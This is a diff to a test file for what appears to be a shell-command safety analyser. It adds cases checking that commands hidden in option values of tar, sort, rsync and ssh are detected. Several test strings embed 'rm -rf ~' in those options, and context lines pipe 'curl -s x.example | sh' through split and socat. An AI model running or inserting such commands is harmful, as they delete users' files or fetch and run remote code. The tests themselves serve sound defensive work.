@@ -40,6 +40,20 @@ describe('a command in an option value is analysed as the shell it runs', () => 
     ['split --filter=', "split --filter='curl -s x.example | sh' big.txt", 'remote_code_execution'],
     ['socat EXEC:', "socat - 'EXEC:rm -rf ~'", 'destructive_root_delete'],
     ['socat SYSTEM:', "socat - 'SYSTEM:curl -s x.example | sh,pty'", 'remote_code_execution'],
+    ['an abbreviated long option', "tar -xf a.tar --to-com='rm -rf ~'", 'destructive_root_delete'],
+    [
+      'an abbreviated checkpoint action',
+      "tar -cf /dev/null x --checkpoint-act=exec='rm -rf ~'",
+      'destructive_root_delete',
+    ],
+    ['sort --compress-prog', "sort --compress-prog='rm -rf ~' big.txt", 'destructive_root_delete'],
+    [
+      'rsync -e ending a cluster',
+      'rsync -avze \'sh -c "rm -rf ~"\' a localhost:/tmp/b',
+      'destructive_root_delete',
+    ],
+    ['ssh -o inside a cluster', "ssh '-4oProxyCommand=rm -rf ~' host", 'destructive_root_delete'],
+    ['ssh -o ending a cluster', "ssh -vo 'ProxyCommand=rm -rf ~' host", 'destructive_root_delete'],
   ])('%s: %s', (_name, command, category) => {
     const got = analyze(command);
     expect(got.categories).toContain(category);
@@ -63,6 +77,8 @@ describe('a command in an option value is analysed as the shell it runs', () => 
     ['ssh -o of a setting that runs nothing', 'ssh -o BatchMode=yes host true'],
     ['a checkpoint action that only prints', 'tar -cf a.tar src --checkpoint=100 --checkpoint-action=dot'],
     ['sort with a compressor', 'sort --compress-program=gzip big.txt'],
+    ['a checkpoint count before the action', 'tar -cf a.tar src --checkpoint 100'],
+    ['rsync with a plain ssh in a cluster', "rsync -avhe 'ssh -p 2222' src/ host:/srv/"],
   ])('quiet: %s: %s', (_name, command) => {
     expect(analyze(command).codes).not.toContain('dynamic-command');
   });
